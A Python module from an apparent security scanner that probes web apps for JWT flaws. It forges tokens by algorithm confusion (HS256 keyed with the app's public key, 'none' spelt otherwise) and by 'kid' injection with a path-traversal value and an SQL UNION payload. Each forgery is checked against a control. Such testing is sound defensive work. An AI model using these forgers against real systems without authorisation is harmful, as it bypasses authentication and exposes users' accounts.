"""Forged tokens an app that checks signatures may still accept: an algorithm it did not issue
(JWT106: HS256 keyed with its own public key, `alg: none` spelt otherwise) and a key chosen by
a `kid` the client wrote (JWT107: a path to an empty file, a value an SQL UNION returns).

Each forgery is judged against a control: the same token with a wrong signature must be refused,
so what is proven is the forgery, not an endpoint that reads tokens without checking them (JWT103).
A proven forgery is also how JWT102 writes its expired token.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

from secpat.findings import Finding
from secpat.probe.checks import (
    Bearer,
    ProbeContext,
    Skip,
    _auth,
    _b64encode,
    _b64json,
    _finding,
    _ok,
    _token_check,
    _url_path,
    probe,
    tamper_signature,
)
from secpat.probe.client import NO_VERDICT, Exchange
from secpat.rules.runtime import JWT101, JWT103, JWT106, JWT107

Forger = Callable[[dict, dict], str]


def hs256(key: bytes, alg: str = "HS256", extra: dict | None = None) -> Forger:
    """A forger signing with `key` under an HMAC algorithm, whatever the issued header said."""
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]

    def forge(header: dict, claims: dict) -> str:
        head = _b64json({**header, **(extra or {}), "alg": alg}) + "." + _b64json(claims)
        return f"{head}.{_b64encode(hmac.new(key, head.encode(), digest).digest())}"

    return forge


def unsigned(spelling: str) -> Forger:
    def forge(header: dict, claims: dict) -> str:
        return f"{_b64json({**{k: v for k, v in header.items() if k != 'kid'}, 'alg': spelling})}.{_b64json(claims)}."

    return forge


def _signatures_unchecked(ctx: ProbeContext) -> None:
    if ctx.findings.get(JWT103.id):
        raise Skip("the endpoint does not check signatures at all (JWT103): no forgery needs a trick")


def _control(ctx: ProbeContext, bearer: Bearer, token: str, note: str) -> Exchange | None:
    """The forged token with its signature altered (for an unsigned one, the issued token altered:
    JWT103's request, not sent again when JWT103 ran). None when nothing needs sending."""
    if token.endswith("."):
        if JWT103.id in ctx.findings:
            return None
        token = bearer.token
    return ctx.client.request("GET", bearer.api or "", note=note, headers=_auth(tamper_signature(token)))


# -- JWT106: the public key as an HMAC secret, and `none` spelt otherwise ---------------------------

_JWKS_PATHS = ("/.well-known/jwks.json", "/jwks.json", "/.well-known/openid-configuration")


def public_keys_pem(jwks: dict) -> list[bytes]:
    """The RSA and EC public keys of a JWKS, as the PEM texts a server keeps in a file (SPKI, then
    PKCS#1 for RSA), each with its trailing newline."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec, rsa

    def number(value: str) -> int:
        return int.from_bytes(base64.urlsafe_b64decode(value + "=" * (-len(value) % 4)), "big")

    curves = {"P-256": ec.SECP256R1(), "P-384": ec.SECP384R1(), "P-521": ec.SECP521R1()}
    pems: list[bytes] = []
    key: rsa.RSAPublicKey | ec.EllipticCurvePublicKey
    formats: tuple[serialization.PublicFormat, ...]
    for jwk in jwks.get("keys", [])[:3] if isinstance(jwks.get("keys"), list) else []:
        try:
            if jwk.get("kty") == "RSA":
                key = rsa.RSAPublicNumbers(number(jwk["e"]), number(jwk["n"])).public_key()
                formats = (serialization.PublicFormat.SubjectPublicKeyInfo, serialization.PublicFormat.PKCS1)
            elif jwk.get("kty") == "EC" and jwk.get("crv") in curves:
                key = ec.EllipticCurvePublicNumbers(number(jwk["x"]), number(jwk["y"]), curves[jwk["crv"]]).public_key()
                formats = (serialization.PublicFormat.SubjectPublicKeyInfo,)
            else:
                continue
        except (KeyError, TypeError, ValueError):
            continue
        pems += [key.public_bytes(serialization.Encoding.PEM, f) for f in formats]
    return pems


def _published_keys(ctx: ProbeContext) -> tuple[list[bytes], str]:
    """The public keys the app publishes, and where they were read."""
    for path in _JWKS_PATHS:
        ex = ctx.client.request("GET", ctx.path(path), note="public keys", headers={"Accept": "application/json"})
        try:
            doc = json.loads(ex.body) if _ok(ex) else None
        except ValueError:
            doc = None
        if isinstance(doc, dict) and isinstance(doc.get("jwks_uri"), str):
            uri = urlsplit(doc["jwks_uri"])
            if uri.netloc and uri.netloc != urlsplit(ctx.target.url).netloc:
                continue  # never another host
            ex = ctx.client.request(
                "GET", uri.path, note="public keys (jwks_uri)", headers={"Accept": "application/json"}
            )
            try:
                doc = json.loads(ex.body) if _ok(ex) else None
            except ValueError:
                doc = None
        if isinstance(doc, dict) and doc.get("keys"):
            pems = public_keys_pem(doc)
            if pems:
                return pems, f"GET {_url_path(ex.path)}"
    return [], ""


@probe(JWT106, max_requests=12)
def algorithm_confusion(ctx: ProbeContext) -> Iterator[Finding]:
    """Sign the issued claims with HS256 keyed with the app's public key (for RS/ES/PS tokens), and
    send them under `alg` spelt `None`, `NONE`, `nOnE` (when plain `none` was refused)."""
    bearer = ctx.require_bearer()
    _signatures_unchecked(ctx)
    alg = str(bearer.header.get("alg", "")).upper()
    attempts: list[tuple[str, Forger]] = []
    if not ctx.findings.get(JWT101.id):  # plain `none` was refused, or not tried
        attempts += [(f"alg {s}", unsigned(s)) for s in ("None", "NONE", "nOnE")]
    where = ""
    if alg[:2] in ("RS", "ES", "PS"):
        pems, where = _published_keys(ctx)
        attempts += [
            (f"HS256 keyed with the public key ({'SPKI' if b'BEGIN PUBLIC' in pem else 'PKCS#1'} PEM)", hs256(pem))
            for pem in pems[:2]
        ]
        if not pems:
            ctx.observe("no public key found at " + ", ".join(_JWKS_PATHS))
    if not attempts:
        raise Skip(f"the issued token is {alg or 'unsigned'}, and `alg: none` is accepted already (JWT101)")
    for name, forge in attempts:
        token = forge(bearer.header, bearer.claims)
        ex = ctx.client.request("GET", bearer.api or "", note=name, headers=_auth(token))
        if not _ok(ex):
            _token_check(ctx, ex, name)
            continue
        control = _control(ctx, bearer, token, f"{name}, signature altered")
        if control is not None and _ok(control):
            ctx.check(
                f"GET {_url_path(ex.path)}",
                "Authorization",
                (name, "the same, signature altered"),
                [control],
                found=False,
                verdict=NO_VERDICT,
                reason=f"a wrong signature is accepted too ({control.outcome})",
            )
            continue
        _token_check(ctx, ex, name)
        ctx.jwt_bypass = ctx.jwt_bypass or (name, forge)
        source = f" read from {where}" if "public key" in name else ""
        yield _finding(
            JWT106,
            ex,
            f"GET {_url_path(ex.path)} accepted the issued claims re-signed as {name}"
            f"{source} ({ex.outcome}), while a wrong signature is refused: the server lets the token "
            "choose its algorithm",
            snippet=ex.summary(),
            context=name,
            extra={"issued alg": alg, "forged": name},
        )
        return


# -- JWT107: kid ---------------------------------------------------------------------------------------

_SQL_KEY = "secpat-kid-key"
KIDS = (
    ("a path to an empty file", "../../../../../../../../dev/null", b""),
    ("an SQL UNION that returns the probe's key", f"secpat-nokey' UNION SELECT '{_SQL_KEY}' -- ", _SQL_KEY.encode()),
)


@probe(JWT107, max_requests=2 * len(KIDS))
def kid_injection(ctx: ProbeContext) -> Iterator[Finding]:
    """For each made-up `kid`: a token signed with the key it would select, and a control signed
    with a random key; the first accepted and the second refused is an injection."""
    bearer = ctx.require_bearer()
    _signatures_unchecked(ctx)
    issued = str(bearer.header.get("alg", "")).upper()
    alg = issued if issued in ("HS256", "HS384", "HS512") else "HS256"
    for what, kid, key in KIDS:
        forge = hs256(key, alg, {"kid": kid})
        ex = ctx.client.request(
            "GET", bearer.api or "", note=f"kid: {what}", headers=_auth(forge(bearer.header, bearer.claims))
        )
        control = ctx.client.request(
            "GET",
            bearer.api or "",
            note=f"kid: {what}, another key",
            headers=_auth(hs256(secrets.token_bytes(16), alg, {"kid": kid})(bearer.header, bearer.claims)),
        )
        where = f"GET {_url_path(ex.path)}"
        if _ok(ex) and _ok(control):
            ctx.check(
                where,
                "kid",
                (kid, "another key"),
                [ex, control],
                found=False,
                verdict=NO_VERDICT,
                reason=f"a token with any key is accepted under this kid ({control.outcome})",
            )
            continue
        ctx.check(
            where,
            "kid",
            (kid, "another key"),
            [ex, control],
            found=_ok(ex),
            reason=f"signed with {what}'s key: accepted ({ex.outcome}), another key: {control.outcome}"
            if _ok(ex)
            else f"refused ({ex.outcome})",
        )
        if _ok(ex):
            ctx.jwt_bypass = ctx.jwt_bypass or (f"kid {what}", forge)
            yield _finding(
                JWT107,
                ex,
                f"{where} accepted a token whose `kid` is {what} (`{kid}`), signed with "
                f"the key it selects ({ex.outcome}); the same kid with another key was refused "
                f"({control.outcome}): the client chooses the key",
                snippet=ex.summary(),
                context=kid,
                extra={"kid": kid, "alg": alg},
            )
            return
